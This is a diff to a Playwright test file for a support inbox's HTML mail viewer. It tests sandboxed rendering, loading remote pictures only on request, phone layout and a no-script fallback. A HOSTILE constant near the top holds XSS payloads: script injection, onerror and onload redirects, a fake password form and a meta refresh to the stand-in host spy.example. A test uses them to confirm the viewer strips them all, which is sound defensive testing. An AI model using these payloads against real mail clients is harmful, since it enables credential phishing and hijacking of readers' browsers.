@@ -2,6 +2,13 @@ import { agentReplies, inThread, openConversation, signIn } from '../fixtures/ag
 import { CUSTOMERS, customerMails, customerSends, mailThread, openPhone, Phone } from '../fixtures/customer';
 import { expect, test } from '../fixtures/product';
 
+/** What a sender would do in the reader's browser if it were let. */
+const HOSTILE = `<script>parent.document.title = document.title = "owned"</script><h2>Free plants</h2>
+  <img src="x" onerror="top.location = 'https://spy.example'"><svg onload="top.location = 'https://spy.example'"></svg>
+  <form action="https://spy.example"><input name="password"><button>Sign in again</button></form>
+  <iframe src="https://spy.example"></iframe><meta http-equiv="refresh" content="0;url=https://spy.example">
+  <p style="position:fixed;inset:0;background:url(https://spy.example/a.png)">For you</p>`;
+
 test('a mail is answered, the answer arrives in its thread, and the reply to that goes on with the conversation', async ({
   context,
   page,
@@ -74,4 +81,103 @@ test('a mail that comes back and one that is refused say why, and the refused on
   await second.getByRole('button', { name: 'Send again' }).click();
   await expect(second.getByTitle('Sent', { exact: true })).toBeVisible();
   expect(await greta.count('Shall I make one?')).toBe(1);
+});
+
+test('a designed mail is read as text, is shown as designed when asked for, and fetches pictures from elsewhere only then', async ({
+  page,
+  product,
+}) => {
+  await new Phone(product, CUSTOMERS['E-mail']).does({ kind: 'designed_mail' });
+  const fetched: string[] = [];
+  await page.route('https://cafe-linden.example/**', (route) => {
+    fetched.push(new URL(route.request().url()).pathname);
+    return route.fulfill({ contentType: 'image/gif', body: Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64') });
+  });
+  await signIn(page, product.agent('owner'));
+  await page.goto('/inbox/all');
+  await openConversation(page, 'A parcel for Café Linden');
+  const mail = inThread(page, 'Monstera, large: fine');
+  await expect(mail.getByRole('img', { name: 'photo' })).toBeVisible();
+
+  const link = mail.getByRole('link', { name: 'Show formatted' });
+  await link.click();
+  const dialog = page.getByRole('dialog', { name: 'Mail' });
+  await expect(dialog.getByRole('heading', { name: 'A parcel for Café Linden' })).toBeVisible();
+  const frame = dialog.frameLocator('iframe');
+  await expect(frame.getByRole('heading', { name: 'Our parcel came with a crack' })).toBeVisible();
+  await expect(frame.getByRole('cell', { name: 'Fern, hanging' })).toBeVisible();
+  const picture = frame.getByRole('img', { name: 'The parcel by the window' });
+  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
+  await expect(frame.getByRole('link', { name: 'See all photos' })).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+  const room = await dialog.locator('iframe').boundingBox();
+  expect(room?.height).toBeGreaterThan(750);
+  expect(fetched).toEqual([]);
+
+  await dialog.getByRole('button', { name: 'Load remote pictures' }).click();
+  await expect.poll(() => [...fetched].sort()).toEqual(['/logo.png', '/opened.gif']);
+  await expect(frame.getByRole('heading', { name: 'Our parcel came with a crack' })).toBeVisible();
+  await expect(dialog.getByRole('button', { name: 'Remote pictures loaded' })).toBeFocused();
+  await page.keyboard.press('Escape');
+  await expect(dialog).toBeHidden();
+  await expect(link).toBeFocused();
+
+  // Whoever opens it again is asked again.
+  await link.click();
+  await expect(dialog.getByRole('button', { name: 'Load remote pictures' })).toBeVisible();
+  await dialog.getByRole('button', { name: 'Close mail' }).click();
+  await expect(dialog).toBeHidden();
+});
+
+test('a hostile mail shows its words and does nothing', async ({ page, product }) => {
+  const left: string[] = [];
+  await page.route('https://spy.example/**', (route) => {
+    left.push(route.request().url());
+    return route.abort();
+  });
+  await new Phone(product, CUSTOMERS['E-mail']).does({ kind: 'text', subject: 'Win', text: 'Free plants', html: HOSTILE });
+  await signIn(page, product.agent('owner'));
+  await page.goto('/inbox/all');
+  await openConversation(page, 'Win Free plants');
+  await inThread(page, 'Free plants').getByRole('link', { name: 'Show formatted' }).click();
+  const frame = page.getByRole('dialog', { name: 'Mail' }).frameLocator('iframe');
+  await expect(frame.getByRole('heading', { name: 'Free plants' })).toBeVisible();
+  await expect(frame.getByText('For you')).toBeVisible();
+  await expect(frame.locator('script, form, input, iframe, svg, meta[http-equiv]')).toHaveCount(0);
+  await page.getByRole('button', { name: 'Load remote pictures' }).click();
+  await expect(frame.getByText('For you')).toBeVisible();
+  await expect(page).not.toHaveTitle(/owned/);
+  await expect(page).toHaveURL(/\/inbox\/all\/\d+/);
+  expect(left).toEqual([]);
+});
+
+test('a designed mail fits on a phone @phone', async ({ page, product }) => {
+  await new Phone(product, CUSTOMERS['E-mail']).does({ kind: 'designed_mail' });
+  await signIn(page, product.agent('owner'));
+  await page.goto('/inbox/all');
+  await openConversation(page, 'A parcel for Café Linden');
+  await inThread(page, 'Monstera, large: fine').getByRole('link', { name: 'Show formatted' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Mail' });
+  const body = dialog.frameLocator('iframe').locator('body');
+  await expect(body.getByRole('heading', { name: 'Our parcel came with a crack' })).toBeVisible();
+  const [screen, room] = [page.viewportSize(), await dialog.locator('iframe').boundingBox()];
+  expect(room?.width).toBeGreaterThan((screen?.width ?? 0) * 0.85);
+  expect((room?.x ?? 0) + (room?.width ?? 0)).toBeLessThanOrEqual(screen?.width ?? 0);
+  // The design itself is not wider than its frame, so nothing has to be scrolled to.
+  expect(await body.evaluate((element) => element.ownerDocument.documentElement.scrollWidth)).toBeLessThanOrEqual(Math.ceil(room?.width ?? 0));
+});
+
+test.describe('without JavaScript', () => {
+  test.use({ javaScriptEnabled: false });
+
+  test('a designed mail is a link to its page', async ({ page, product }) => {
+    await new Phone(product, CUSTOMERS['E-mail']).does({ kind: 'designed_mail', text: 'No script, please' });
+    await signIn(page, product.agent('owner'));
+    await page.goto('/inbox/all');
+    await page.locator('a[data-row]', { hasText: 'No script, please' }).click();
+    const opening = page.waitForEvent('popup');
+    await inThread(page, 'No script, please').getByRole('link', { name: 'Show formatted' }).click();
+    const mail = await opening;
+    await expect(mail.getByRole('heading', { name: 'Our parcel came with a crack' })).toBeVisible();
+    await expect(mail).toHaveTitle('A parcel for Café Linden');
+  });
 });
